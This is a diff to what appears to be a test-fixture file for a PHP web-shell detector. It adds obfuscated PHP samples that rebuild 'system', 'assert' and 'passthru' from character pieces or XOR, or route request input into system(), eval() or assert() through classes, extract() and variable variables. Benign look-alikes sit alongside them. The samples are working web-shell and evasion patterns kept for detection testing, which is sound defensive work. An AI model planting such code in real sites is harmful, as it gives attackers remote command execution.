@@ -187,6 +187,38 @@ const hidden: Technique[] = [
     ],
   },
   {
+    name: 'pieces put together',
+    severity: 'confirmed',
+    samples: ['system', 'assert', 'passthru'].flatMap(name => [
+      php(`$f = str_replace('#', '', '${[...name].join('#')}'); $f($_GET['x']);`),
+      php(`$f = implode('', array(${[...name].map(c => `'${c}'`).join(', ')})); $f($_POST['x']);`),
+      php(
+        `$f = ${[...name].map(c => `('${String.fromCharCode(c.charCodeAt(0) ^ 1)}' ^ '${'\\x01'}')`.replaceAll("'\\x01'", '"\\x01"')).join('.')}; $f($_REQUEST['x']);`,
+      ),
+    ]),
+    honest: [
+      php(`$key = str_replace('-', '_', 'my-option'); $list = implode(', ', array('a', 'b')); echo $key . $list;`),
+      php(`$mask = 'abc' ^ 'xyz'; echo bin2hex($mask);`),
+    ],
+  },
+  {
+    name: 'objects and any variable',
+    severity: 'confirmed',
+    samples: [
+      php(
+        `class A { function __construct() { $this->c = $_POST['c']; } function run() { system($this->c); } } (new A)->run();`,
+      ),
+      php(`function go() { extract($_REQUEST); eval($code); } go();`),
+      php(`foreach ($_POST as $k => $v) $$k = $v; assert($payload);`),
+    ],
+    honest: [
+      php(
+        `class B { function __construct() { $this->c = sanitize_key($_POST['c']); } function run() { do_action($this->c); } }`,
+      ),
+      php(`function view($args) { extract($args); include __DIR__ . '/view.php'; }`),
+    ],
+  },
+  {
     name: 'codes of characters',
     severity: 'confirmed',
     samples: PAYLOADS.map(code => php(`eval("${hex(code)}");`)).concat(
